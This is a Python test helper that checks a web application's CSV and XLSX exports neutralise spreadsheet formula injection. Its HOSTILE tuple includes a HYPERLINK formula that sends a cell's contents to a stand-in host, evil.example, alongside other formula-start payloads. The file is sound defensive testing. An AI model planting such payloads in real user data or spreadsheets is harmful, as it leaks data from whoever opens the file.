"""What every export must show (core/spreadsheets.py): read back as a spreadsheet would.

`HOSTILE` are values anyone can type (a first name at signup, a page title) that a
spreadsheet would run as formulas. An export is inert when no CSV cell starts a
formula (the text is kept, behind an apostrophe) and no XLSX cell is a formula
(text cells, without a visible apostrophe).
"""

import codecs
import csv
import io
import re
import zoneinfo
from datetime import datetime

import openpyxl

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=3+3",
    "\r=4+4",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    """The CSV's rows, after checking it is UTF-8 with a BOM and `;`-separated."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = body(response)
    assert content.startswith(codecs.BOM_UTF8)
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows[0]) > 1, "one column only: not separated by ';'"
    return rows


def xlsx_cells(response):
    """Every cell of the workbook's sheet (not only values: types and styles)."""
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _found(texts, value):
    """`value` at the start of one of `texts` (a full name may strip its lead)."""
    return any(text.startswith((value, value.strip())) for text in texts)


def assert_csv_inert(rows, hostile=HOSTILE):
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not live, live
    kept = [cell[1:] for cell in cells if cell.startswith("'")]
    for value in hostile:
        assert _found(kept, value), value


def assert_xlsx_inert(cells, hostile=HOSTILE):
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert not [cell.value for cell in texts if cell.value.startswith("'")]
    for cell in texts:
        if cell.value.startswith(FORMULA_START):
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    # XML keeps a carriage return as a line feed: still text, still there.
    values = [cell.value for cell in texts]
    for value in hostile:
        # (openpyxl with lxml — which pikepdf brings — writes it as `&#13;` and reads
        # it back as it was.)
        assert _found(values, value) or _found(values, value.replace("\r", "\n")), value


def assert_french_dated_filename(response, stem, extension):
    """`<stem>-<today in Paris>.<extension>`, as an attachment."""
    today = datetime.now(zoneinfo.ZoneInfo("Europe/Paris")).date()
    expected = f"{stem}-{today:%Y-%m-%d}.{extension}"
    match = re.fullmatch(r'attachment; filename="([^"]+)"', response["Content-Disposition"])
    assert match, response["Content-Disposition"]
    assert match.group(1) == expected
